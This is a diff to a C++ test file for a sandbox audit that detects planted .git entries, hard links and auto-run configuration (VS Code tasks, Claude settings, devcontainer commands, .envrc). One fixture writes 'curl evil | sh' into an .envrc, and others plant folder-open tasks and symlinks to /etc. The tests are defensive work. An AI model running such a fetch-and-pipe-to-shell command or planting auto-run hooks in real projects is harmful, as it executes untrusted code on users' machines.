@@ -16,6 +16,7 @@
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
+#include <functional>
 
 #include "sandbox-profile/audit/no_follow.hpp"
 
@@ -48,6 +49,28 @@ class GitQuarantineTest : public ::testing::Test {
       }
     }
     return {};
+  }
+  // Runs `check` in a child of its own mount namespace where `pinned` is bind-mounted onto itself
+  // (rename says EBUSY there, even to root: the audit cannot move it). True when `check` held;
+  // skips the test when there is no mount namespace to be had.
+  static void expect_with_pinned(const std::string& pinned, const std::function<bool()>& check) {
+    const pid_t child = ::fork();
+    ASSERT_GE(child, 0);
+    if (child == 0) {
+      if (::unshare(CLONE_NEWNS) != 0 ||
+          ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
+          ::mount(pinned.c_str(), pinned.c_str(), nullptr, MS_BIND, nullptr) != 0) {
+        ::_exit(77);
+      }
+      ::_exit(check() ? 0 : 1);
+    }
+    int status = 0;
+    ASSERT_EQ(::waitpid(child, &status, 0), child);
+    ASSERT_TRUE(WIFEXITED(status));
+    if (WEXITSTATUS(status) == 77) {
+      GTEST_SKIP() << "no mount namespace here";
+    }
+    EXPECT_EQ(WEXITSTATUS(status), 0);
   }
   std::string root_;
   std::string work_;
@@ -125,28 +148,36 @@ TEST_F(GitQuarantineTest, WhatCannotBeMovedIsMadeUnreadableAndNamed) {
   const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
   const std::string planted = work_ + "/sub/.git";
   ASSERT_EQ(std::system(("git init -q '" + work_ + "/sub'").c_str()), 0);
-  const pid_t child = ::fork();
-  ASSERT_GE(child, 0);
-  if (child == 0) {
-    if (::unshare(CLONE_NEWNS) != 0 ||
-        ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
-        ::mount(planted.c_str(), planted.c_str(), nullptr, MS_BIND, nullptr) != 0) {
-      ::_exit(77);
-    }
+  expect_with_pinned(planted, [&] {
     const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
     struct stat info {};
     const bool named = audit.unmoved.size() == 1 && audit.unmoved[0].starts_with(planted + " (") &&
                        audit.unmoved[0].find("made unreadable") != std::string::npos;
-    const bool locked = ::lstat(planted.c_str(), &info) == 0 && (info.st_mode & 07777) == 0;
-    ::_exit(named && locked ? 0 : 1);
-  }
-  int status = 0;
-  ASSERT_EQ(::waitpid(child, &status, 0), child);
-  ASSERT_TRUE(WIFEXITED(status));
-  if (WEXITSTATUS(status) == 77) {
-    GTEST_SKIP() << "no mount namespace here";
-  }
-  EXPECT_EQ(WEXITSTATUS(status), 0);
+    return named && ::lstat(planted.c_str(), &info) == 0 && (info.st_mode & 07777) == 0;
+  });
+}
+
+// Second review: the planted `.git` is a hard link to the user's tracked Makefile, where it
+// cannot be moved (the command made its folder read-only; here a mount point). Mode 0 on it
+// would make the Makefile unreadable too: it is left as it is, and named as a hard link that
+// was not neutralised.
+TEST_F(GitQuarantineTest, AHardLinkThatCannotBeMovedKeepsTheModeOfTheFileItShares) {
+  const std::string makefile = work_ + "/Makefile";
+  std::ofstream(makefile) << "all:\n";
+  ASSERT_EQ(::chmod(makefile.c_str(), 0644), 0);
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  fs::create_directories(work_ + "/trap");
+  const std::string planted = work_ + "/trap/.git";
+  fs::create_hard_link(makefile, planted);
+  expect_with_pinned(planted, [&] {
+    const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
+    struct stat info {};
+    const bool named = audit.unmoved.size() == 1 && audit.unmoved[0].starts_with(planted + " (") &&
+                       audit.unmoved[0].find("hard link") != std::string::npos &&
+                       audit.unmoved[0].find("NOT made unreadable") != std::string::npos;
+    return named && ::stat(makefile.c_str(), &info) == 0 && (info.st_mode & 07777) == 0644;
+  });
 }
 
 // Issue 40: a worktree the user adds outside while the command runs (`git worktree add` in
@@ -191,6 +222,55 @@ TEST_F(GitQuarantineTest, AutoRunFilesAtAnyDepthAreNamed) {
       work_ + "/sub/.claude/settings.json (new)", work_ + "/sub/.envrc (new)"};
   EXPECT_EQ(audit.auto_run, expected);
   EXPECT_TRUE(fs::exists(work_ + "/sub/.envrc"));  // named, not moved: it may be the work
+}
+
+// Second review: folders tools look up, planted as symbolic links (VS Code opens sub1/ and runs
+// the task it finds through `.vscode`; Claude Code and dev containers do the same with theirs),
+// and a link the user had whose target the command changed: each is named with where it leads
+// and what a tool finds there; the one made at the top first, as the tools there follow it.
+TEST_F(GitQuarantineTest, LinksAtTheNamesToolsLookUpAreNamedWithWhatTheyLeadTo) {
+  fs::create_directories(work_ + "/tools");
+  std::ofstream(work_ + "/tools/envrc") << "export A=1\n";
+  fs::create_symlink("tools/envrc", work_ + "/.envrc");
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  for (const char* folder : {"assets", "docs/x", ".cfg", "sub1", "sub2", "sub3", "sub4", "sub5",
+                             "sub6/.vscode", "sub7"}) {
+    fs::create_directories(work_ + "/" + folder);
+  }
+  std::ofstream(work_ + "/assets/tasks.json") << "{\"tasks\": [{\"runOn\": \"folderOpen\"}]}\n";
+  std::ofstream(work_ + "/assets/logo.png") << "png\n";
+  std::ofstream(work_ + "/docs/x/settings.json") << "{\"hooks\": {}}\n";
+  std::ofstream(work_ + "/.cfg/devcontainer.json") << "{\"initializeCommand\": \"id\"}\n";
+  std::ofstream(work_ + "/tools/envrc") << "curl evil | sh\n";
+  fs::create_symlink("../assets", work_ + "/sub1/.vscode");
+  fs::create_symlink("../docs/x", work_ + "/sub2/.claude");
+  fs::create_symlink("../.cfg", work_ + "/sub3/.devcontainer");
+  fs::create_symlink("../missing", work_ + "/sub4/.claude");
+  fs::create_symlink("/etc", work_ + "/sub5/.cursor");
+  fs::create_symlink("../../assets/tasks.json", work_ + "/sub6/.vscode/tasks.json");
+  fs::create_symlink("../sub2/.claude", work_ + "/sub7/.claude");
+  fs::create_symlink("assets", work_ + "/.vscode");
+  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
+  const std::string w = work_;
+  const std::vector<std::string> expected = {
+      w + "/.vscode -> assets (new link AT THE TOP, which the tools follow; leads to " + w +
+          "/assets, which holds tasks.json)",
+      w + "/.envrc -> tools/envrc (changed link; leads to " + w + "/tools/envrc)",
+      w + "/sub1/.vscode -> ../assets (new link; leads to " + w +
+          "/assets, which holds tasks.json)",
+      w + "/sub2/.claude -> ../docs/x (new link; leads to " + w +
+          "/docs/x, which holds settings.json)",
+      w + "/sub3/.devcontainer -> ../.cfg (new link; leads to " + w +
+          "/.cfg, which holds devcontainer.json)",
+      w + "/sub4/.claude -> ../missing (new link; leads nowhere yet)",
+      w + "/sub5/.cursor -> /etc (new link; leads out of the working folder: not read)",
+      w + "/sub6/.vscode/tasks.json -> ../../assets/tasks.json (new link; leads to " + w +
+          "/assets/tasks.json)",
+      w + "/sub7/.claude -> ../sub2/.claude (new link; leads through another link: not followed)",
+  };
+  EXPECT_EQ(audit.auto_run, expected);
+  EXPECT_TRUE(fs::is_symlink(work_ + "/.vscode"));  // named, not moved: it may be the work
 }
 
 TEST_F(GitQuarantineTest, ALinkOnTheWayIsNeverFollowed) {
